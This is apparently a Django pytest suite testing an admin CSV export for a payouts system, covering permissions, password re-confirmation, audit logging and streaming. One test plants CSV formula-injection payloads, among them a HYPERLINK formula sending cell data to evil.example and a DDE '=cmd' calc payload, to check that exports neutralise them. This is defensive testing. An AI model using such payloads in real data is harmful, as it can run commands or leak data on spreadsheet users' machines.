"""Lists as files: exactly what the screen shows, only for who may and is there himself, and written down. F72, F73."""

from __future__ import annotations

import csv
import hashlib
import io
import re
import weakref
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.contrib import admin
from django.contrib.auth.models import Permission, User
from django.db import IntegrityError, connection, transaction
from django.test import Client as Browser
from django.test.utils import CaptureQueriesContext

from batches.models import BatchConversion
from config.lib import clock
from config.lib.adminkit import exports
from config.lib.adminkit.export_columns import ExportColumn
from config.lib.spreadsheets import cell_text
from hostpay.models import Reconciliation
from payouts.admin.accumulations import AccumulationAdmin
from payouts.models import Accumulation, Client, Export, InboundEvent, Outcome, Verdict, WebhookEndpoint
from tests import factories
from tests.factories import accumulation, accumulations
from tests.lib.concurrency import crew
from tests.web.scene import Scene
from tests.web.test_pages import OURS, url_of

pytestmark = pytest.mark.django_db

PASSWORD = "a long pass phrase"
EXPORTED = [model for model in OURS if admin.site._registry[model].exported]  # type: ignore[attr-defined]
# What a browser shows of them is all there is, or is nobody's to take along.
NOT_EXPORTED = {
    "batches.conversionpolicy",
    "hostpay.approval",
    "hostpay.breaker",
    "hostpay.heartbeat",
    "hostpay.nonceslot",
    "hostpay.pause",
    "hostpay.servicehealth",
    "hostpay.usedtoken",
    "hostpay.wallet",
    "payouts.apikey",
    "payouts.failedtries",
    "payouts.rejecteddeliveries",
    "payouts.requestkey",
}


def proved(browser: Browser, ago: timedelta = timedelta(0)) -> Browser:
    """As after a log-in, or an older one."""
    session = browser.session
    session["proved_at"] = (clock.now() - ago).isoformat()
    session.save()
    return browser


@pytest.fixture
def operator(operator: Browser) -> Browser:
    """Logged in an hour ago: each test says where the password was given since."""
    return proved(operator, timedelta(hours=1))


def fetched(answer: Any) -> Any:
    """With the file read whole, which closes it."""
    answer.body = b"".join(answer.streaming_content) if answer.streaming else b""
    return answer


def lines_of(answer: Any) -> list[list[str]]:
    """All lines of the file, the headings first."""
    assert answer.streaming, answer
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(answer.body.decode("utf-8-sig"), newline=""), strict=True))


def table_of(answer: Any) -> list[list[str]]:
    """The rows below the headings."""
    return lines_of(answer)[1:]


def export(browser: Browser, model: Any, query: str = "", **given: str) -> Any:
    return fetched(browser.post(f"{url_of(model, 'export')}{query}", given))


def export_table(browser: Browser, obj: Any, name: str) -> Any:
    return fetched(browser.post(url_of(type(obj), "export_table", obj.pk, name)))


def on_screen(browser: Browser, model: Any, query: str = "") -> list[Any]:
    return list(browser.get(f"{url_of(model, 'changelist')}{query}").context["cl"].result_list)


def cells_of(model: Any, rows: list[Any]) -> list[list[str]]:
    columns = admin.site._registry[model].exported  # type: ignore[attr-defined]
    return [[cell_text(column.value(row)) for column in columns] for row in rows]


@pytest.mark.parametrize("model", EXPORTED, ids=lambda model: model._meta.label_lower)
def test_a_file_has_the_rows_of_the_screen_in_its_order(model: Any, scene: Scene, superuser: Browser) -> None:
    rows = on_screen(superuser, model)
    assert rows
    proved(superuser)

    with CaptureQueriesContext(connection) as queries:
        table = table_of(export(superuser, model))

    assert table == cells_of(model, rows)
    # Session, user, proof, the list's page, the cursor, the record: none for a row.
    assert len(queries) <= 16, "\n".join(query["sql"][:200] for query in queries)
    assert superuser.get(url_of(model, "export")).status_code == 200


def test_every_list_is_exported_or_named_as_one_that_is_not() -> None:
    assert {model._meta.label_lower for model in OURS} - {model._meta.label_lower for model in EXPORTED} == NOT_EXPORTED


def test_no_file_has_bodies_headers_or_secrets() -> None:
    names = {column.name for model in EXPORTED for column in admin.site._registry[model].exported}  # type: ignore[attr-defined]

    assert not [name for name in names if re.search(r"body|headers|secret|seed|raw|nonce_|password|_key", name)]


# The filter's own moments are naive; with TIME_ZONE they are UTC, as the page says.
@pytest.mark.filterwarnings("ignore:DateTimeField Accumulation.created_at received a naive datetime")
@pytest.mark.parametrize(
    "query",
    [
        "?status__exact=pending",
        "?receipt=no",
        "?q={id}",
        "?q=nobody",
        "?status__exact=pending&receipt=yes&q={client}",
        "?created_at_from_0=2020-01-01&created_at_from_1=00:00:00",
        "?created_at_to_0=2020-01-01&created_at_to_1=00:00:00",
    ],
)
def test_a_file_has_the_rows_of_the_filtered_screen(query: str, scene: Scene, operator: Browser) -> None:
    accumulation(7, net_wei=None)
    query = query.format(id=scene.held.payment_id, client=scene.pending[0].client.external_id)
    rows = on_screen(operator, Accumulation, query)

    table = table_of(export(proved(operator), Accumulation, query))

    assert table == cells_of(Accumulation, rows)
    assert len(table) < Accumulation.objects.count() or "2020-01-01&created_at_from_1" in query


def test_a_file_has_all_pages_whichever_was_open(operator: Browser) -> None:
    accumulations(*["1.25"] * 120)

    table = table_of(export(proved(operator), Accumulation, "?p=2"))

    assert [int(row[0]) for row in table] == sorted(Accumulation.objects.values_list("pk", flat=True), reverse=True)
    assert len(on_screen(operator, Accumulation, "?p=2")) == 50


def test_figures_are_exact_and_headings_name_their_units(operator: Browser) -> None:
    it = accumulation(
        Decimal("1.10000001"),
        payment_id="order-1",
        client=factories.client(external_id="bakery"),
        net_wei=10**25 + 1,
        paid_at=datetime(2030, 1, 31, 12, tzinfo=UTC),
    )

    head, row = lines_of(export(proved(operator), Accumulation))

    assert dict(zip(head, row, strict=True)) == {
        "id": str(it.pk),
        "source": "tests",
        "payment_id": "order-1",
        "client_id": "bakery",
        "status": "pending",
        "hold_reason": "",
        "gross_usd": "1.10000001",
        "fee_usd": "0.00000000",
        "fee_percent": "0.0000",
        "pending_usd_amount": "1.10000001",
        "outcome_currency": it.outcome_currency,
        "received_wei": "10000000000000000000000001",
        "fee_wei": "0",
        "net_wei": "10000000000000000000000001",
        "batch_conversion_id": "",
        "converted_usdt_amount": "",
        "paid_at": "2030-01-31T12:00:00.000000Z",
        "created_at": f"{Accumulation.objects.get().created_at:%Y-%m-%dT%H:%M:%S.%fZ}",
    }


def test_a_file_says_its_length_its_rows_and_its_hash(scene: Scene, operator: Browser) -> None:
    answer = export(proved(operator), Accumulation)
    count = Accumulation.objects.count()

    assert int(answer.headers["Content-Length"]) == len(answer.body)
    assert re.search(
        rf'filename="sluice-accumulation-\d{{8}}T\d{{6}}Z-{count}-rows.csv"', answer["Content-Disposition"]
    )
    assert answer.headers["Cache-Control"].startswith("no-store")
    record = Export.objects.latest("pk")
    assert (record.row_count, record.sha256) == (count, hashlib.sha256(answer.body).hexdigest())


def test_f72_an_export_is_recorded_with_who_what_and_how_much(scene: Scene, operator: Browser) -> None:
    export(proved(operator), Accumulation, "?status__exact=pending&q=nobody&p=1")

    record = Export.objects.latest("pk")
    assert (record.actor, record.subject, record.row_count) == ("admin:anna", "payouts.accumulation", 0)
    assert record.filters == {"status__exact": ["pending"], "q": ["nobody"]}
    assert record.columns[:3] == ["id", "source", "payment_id"]
    assert record.refusal == ""


@pytest.mark.parametrize("change", ["UPDATE payouts_export SET actor = 'admin:otto'", "DELETE FROM payouts_export"])
def test_f72_the_record_is_neither_changed_nor_deleted(change: str, scene: Scene) -> None:
    with pytest.raises(IntegrityError, match="is refused"), transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(change)

    assert Export.objects.get().actor == "admin:anna"


def test_f72_who_only_looks_takes_nothing_along_and_the_try_is_recorded(scene: Scene, viewer: Browser) -> None:
    before = Export.objects.count()
    proved(viewer)

    assert viewer.get(url_of(Accumulation, "export")).status_code == 403
    assert Export.objects.count() == before
    assert export(viewer, Accumulation).status_code == 403

    record = Export.objects.latest("pk")
    assert (record.actor, record.refusal, record.row_count) == ("admin:otto", "not permitted", None)
    assert url_of(Accumulation, "export") not in viewer.get(url_of(Accumulation, "changelist")).content.decode()


def test_who_may_export_exports_only_the_lists_he_may_see(scene: Scene) -> None:
    user = User.objects.create_user("carl", is_staff=True)
    user.user_permissions.set(Permission.objects.filter(codename__in=("add_export", "view_client")))
    browser = Browser()
    browser.force_login(user)
    proved(browser)

    assert export(browser, Client).status_code == 200
    for model in EXPORTED:
        if model is not Client:
            assert export(browser, model).status_code == 403, model
    assert export_table(browser, scene.done, "members").status_code == 403


def test_nobody_exports_without_a_log_in(scene: Scene, client: Browser) -> None:
    for model in EXPORTED:
        answer = export(client, model)
        assert answer.status_code == 302
        assert answer.headers["Location"].startswith("/admin/login/")


def test_columns_that_a_person_may_not_see_stay_out(scene: Scene, operator: Browser) -> None:
    assert "url" in lines_of(export(proved(operator), WebhookEndpoint))[0]
    User.objects.get(username="anna").user_permissions.remove(Permission.objects.get(codename="change_webhookendpoint"))

    answer = export(operator, WebhookEndpoint)

    assert "url" not in lines_of(answer)[0]
    assert b"/hooks?key=abc" not in answer.body
    assert "url" not in Export.objects.latest("pk").columns
    assert "<code>url</code>" not in operator.get(url_of(WebhookEndpoint, "export")).content.decode()


def test_f73_what_outsiders_wrote_is_run_by_no_spreadsheet(operator: Browser) -> None:
    evil = '=HYPERLINK("http://evil.example/"&A1)'
    owner = factories.client(external_id="@SUM(1)", name="\t=1")
    it = accumulation(5, payment_id=evil, client=owner)
    InboundEvent.objects.create(
        source="api", event_id="x;=1+1", body=b"=body", headers={"a": "=h"}, verdict=Verdict.INVALID,
        outcome=Outcome.REFUSED, error="-2+3\n=cmd|' /C calc'!A0",
    )  # fmt: skip
    proved(operator)

    payments, clients, events = (table_of(export(operator, model)) for model in (Accumulation, Client, InboundEvent))

    assert payments[0][2:4] == ['\'=HYPERLINK("http://evil.example/"&A1)', "'@SUM(1)"]
    assert clients[0][:2] == ["'@SUM(1)", "'\t'=1"]
    assert "x;'=1+1" in events[0]
    assert "'-2+3\n'=cmd|' /C calc'!A0" in events[0]
    assert "body" not in str(events)
    assert it.payment_id == evil


def test_f73_a_session_that_was_left_open_gives_no_file_without_the_password(scene: Scene, operator: Browser) -> None:
    before = Export.objects.count()

    page = operator.get(url_of(Accumulation, "export")).content.decode()
    answer = export(operator, Accumulation)

    assert 'type="password"' in page
    assert answer.status_code == 200
    assert "This field is required." in answer.content.decode()
    assert Export.objects.filter(row_count__isnull=False).count() == before


def test_f73_a_wrong_password_gives_none_and_is_recorded_and_the_right_one_is_good_for_five_minutes(
    scene: Scene, operator: Browser
) -> None:
    with_password("anna")
    operator.force_login(User.objects.get(username="anna"))
    operator.get(url_of(Accumulation, "export"))
    key = operator.session.session_key

    wrong = export(operator, Accumulation, password="guess")
    assert "This is not your password." in wrong.content.decode()
    assert Export.objects.latest("pk").refusal == "This is not your password."
    right = export(operator, Accumulation, password=PASSWORD)
    assert len(table_of(right)) == Accumulation.objects.count()

    assert operator.session.session_key != key
    assert table_of(export(operator, Client))
    proved(operator, timedelta(minutes=5, seconds=1))
    assert "This field is required." in export(operator, Client).content.decode()
    proved(operator, -timedelta(minutes=1))
    assert "This field is required." in export(operator, Client).content.decode()
    proved(operator, timedelta(minutes=4, seconds=55))
    assert table_of(export(operator, Client))


def test_f73_a_proof_is_of_one_session(scene: Scene, operator: Browser) -> None:
    proved(operator)
    other = Browser()
    other.force_login(User.objects.get(username="anna"))

    assert "This field is required." in export(other, Accumulation).content.decode()


def test_f73_guessing_the_password_has_to_wait_as_at_the_log_in(operator: Browser) -> None:
    with_password("anna")
    operator.force_login(User.objects.get(username="anna"))
    for _ in range(5):
        export(operator, Accumulation, password="guess")

    assert "Too many tries. Wait 1 minute." in export(operator, Accumulation, password=PASSWORD).content.decode()
    assert not Export.objects.filter(row_count__isnull=False).exists()


def test_a_log_in_counts_as_a_proof_and_a_failed_one_does_not(scene: Scene) -> None:
    User.objects.create_superuser("cora", "cora@example.org", PASSWORD)
    browser = Browser()
    browser.post("/admin/login/", {"username": "cora", "password": PASSWORD})
    assert table_of(export(browser, Accumulation))

    proved(browser, timedelta(hours=1))
    browser.post("/admin/login/", {"username": "cora", "password": "guess"})
    assert "This field is required." in export(browser, Accumulation).content.decode()


def test_f73_another_page_cannot_ask_for_a_file(scene: Scene, operator: Browser) -> None:
    strict = Browser(enforce_csrf_checks=True)
    strict.force_login(User.objects.get(username="anna"))
    proved(strict)
    before = Export.objects.count()

    assert export(strict, Accumulation).status_code == 403
    assert strict.get(url_of(Accumulation, "export")).headers["Content-Type"].startswith("text/html")
    assert Export.objects.count() == before


def test_more_rows_than_a_file_has_are_refused_with_what_to_do(
    scene: Scene, operator: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    count = Accumulation.objects.count()
    monkeypatch.setattr(exports, "MOST_ROWS", count)
    assert len(table_of(export(proved(operator), Accumulation))) == count
    monkeypatch.setattr(exports, "MOST_ROWS", count - 1)

    page = operator.get(url_of(Accumulation, "export")).content.decode()
    answer = export(operator, Accumulation)

    assert "Narrow the list first" in page
    assert "Download" not in page
    assert answer.headers["Content-Type"].startswith("text/html")
    assert "Narrow the list first" in Export.objects.latest("pk").refusal
    assert len(table_of(export(operator, Accumulation, "?status__exact=held"))) == 1


def test_what_fails_on_the_way_is_an_error_and_no_shorter_file(
    scene: Scene, operator: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    last = Accumulation.objects.order_by("pk").first()
    broken = ExportColumn(name="id", value=lambda row: row.pk // (row.pk - last.pk))  # type: ignore[union-attr]
    monkeypatch.setattr(AccumulationAdmin, "exported", (broken,))
    before = Export.objects.count()
    operator.raise_request_exception = False

    answer = export(proved(operator), Accumulation)

    assert answer.status_code == 500
    assert "Content-Disposition" not in answer.headers
    assert Export.objects.count() == before


def test_without_a_record_there_is_no_file(scene: Scene, operator: Browser) -> None:
    """The record's table takes no more rows."""
    with connection.cursor() as cursor:
        cursor.execute("ALTER TABLE payouts_export ADD CONSTRAINT full_up CHECK (false) NOT VALID")
    operator.raise_request_exception = False

    answer = export(proved(operator), Accumulation)

    assert answer.status_code == 500
    assert not answer.streaming


def test_a_filter_that_the_list_does_not_have_gives_no_file(scene: Scene, operator: Browser) -> None:
    before = Export.objects.count()

    answer = export(proved(operator), Accumulation, "?created_at__nonsense=1")

    assert not answer.streaming
    assert Export.objects.count() == before


def test_a_search_with_a_nul_gives_no_file(scene: Scene, operator: Browser) -> None:
    """The database could not record it."""
    before = Export.objects.count()

    assert export(proved(operator), Accumulation, "?q=%00=1").status_code == 400

    assert Export.objects.count() == before


def test_the_page_says_what_the_file_will_have(scene: Scene, operator: Browser) -> None:
    page = proved(operator).get(f"{url_of(Accumulation, 'export')}?status__exact=pending&q=nobody").content.decode()

    assert "0 rows" in page
    assert "status: pending" in page
    assert "search: nobody" in page
    assert "<code>received_wei</code>" in page
    assert 'type="password"' not in page
    assert "changelist" not in page
    assert f"{url_of(Accumulation, 'changelist')}?status__exact=pending&amp;q=nobody" in page


def test_the_list_leads_to_its_export_as_it_is_filtered(scene: Scene, operator: Browser) -> None:
    page = operator.get(f"{url_of(Accumulation, 'changelist')}?status__exact=pending&p=1").content.decode()

    assert f'href="{url_of(Accumulation, "export")}?status__exact=pending"' in page
    assert 'aria-keyshortcuts="e"' in page


def test_the_members_of_a_batch_are_exported_with_their_shares(scene: Scene, operator: Browser) -> None:
    page = operator.get(url_of(BatchConversion, "change", scene.done.pk)).content.decode()
    assert url_of(BatchConversion, "export_table", scene.done.pk, "members") in page

    head, *rows = lines_of(export_table(proved(operator), scene.done, "members"))

    share = head.index("converted_usdt_amount")
    assert sum(Decimal(row[share]) for row in rows) == Decimal("159.123457")
    assert len(rows) == BatchConversion.objects.get(pk=scene.done.pk).member_count
    assert Export.objects.latest("pk").subject == f"batches.batchconversion:{scene.done.pk} members"


def test_the_differences_of_a_reconciliation_are_exported_both_sides(scene: Scene, operator: Browser) -> None:
    run = Reconciliation.objects.get()

    rows = table_of(export_table(proved(operator), run, "lines"))

    assert [row[1:5] for row in rows] == [
        ["chain", "nonce 4", "not known", "alarm"],
        ["chain", "nonces used on chain", "3 given to payments", "agrees"],
        ["provider", "order 4b1", "not known", "noted"],
    ]
    assert rows[0][6] == "Keep the wallet halted until you know who sent it."


def test_only_a_chunk_of_rows_is_in_memory(operator: Browser, monkeypatch: pytest.MonkeyPatch) -> None:
    """The rows come by a cursor of the server's, and none is kept after it was written."""
    accumulations(*["1.25"] * 500)
    monkeypatch.setattr(exports, "_CHUNK", 20)
    alive: weakref.WeakSet[Accumulation] = weakref.WeakSet()
    most = 0
    cursors: set[tuple[bool]] = set()

    def value(row: Accumulation) -> int:
        nonlocal most
        alive.add(row)
        most = max(most, len(alive))
        if not cursors:
            with connection.cursor() as cursor:
                cursor.execute("SELECT is_holdable FROM pg_cursors WHERE name <> ''")
                cursors.update(cursor.fetchall())
        return row.pk

    monkeypatch.setattr(AccumulationAdmin, "exported", (ExportColumn(name="id", value=value),))

    assert len(table_of(export(proved(operator), Accumulation))) == 500

    assert most <= 40
    assert cursors == {(False,)}


@pytest.mark.django_db(transaction=True)
def test_a_file_is_of_one_moment(monkeypatch: pytest.MonkeyPatch) -> None:
    """What is committed while it is being written is not in it, neither in part."""
    rows = accumulations(*["1.25"] * 100)
    monkeypatch.setattr(exports, "_CHUNK", 10)
    before = list(Accumulation.objects.order_by("pk").values_list("pk", "status", "hold_reason"))
    user = User.objects.create_superuser("root", "root@example.org", PASSWORD)

    def value(row: Accumulation) -> str:
        if row.pk == rows[0].pk:
            with crew(1) as workers:
                workers.start(meanwhile).result()
        return f"{row.pk} {row.status} {row.hold_reason}"

    def meanwhile() -> None:
        accumulation(3)
        Accumulation.objects.filter(pk=rows[-1].pk).update(status="held", hold_reason="meanwhile")
        Accumulation.objects.filter(pk=rows[50].pk).delete()

    monkeypatch.setattr(AccumulationAdmin, "exported", (ExportColumn(name="all", value=value),))
    monkeypatch.setattr(AccumulationAdmin, "ordering", ("id",))
    browser = Browser()
    browser.force_login(user)

    table = table_of(export(proved(browser), Accumulation))

    assert [row[0] for row in table] == [f"{pk} {status} {reason}" for pk, status, reason in before]
    assert Accumulation.objects.get(pk=rows[-1].pk).hold_reason == "meanwhile"


def with_password(username: str) -> None:
    user = User.objects.get(username=username)
    user.set_password(PASSWORD)
    user.save()
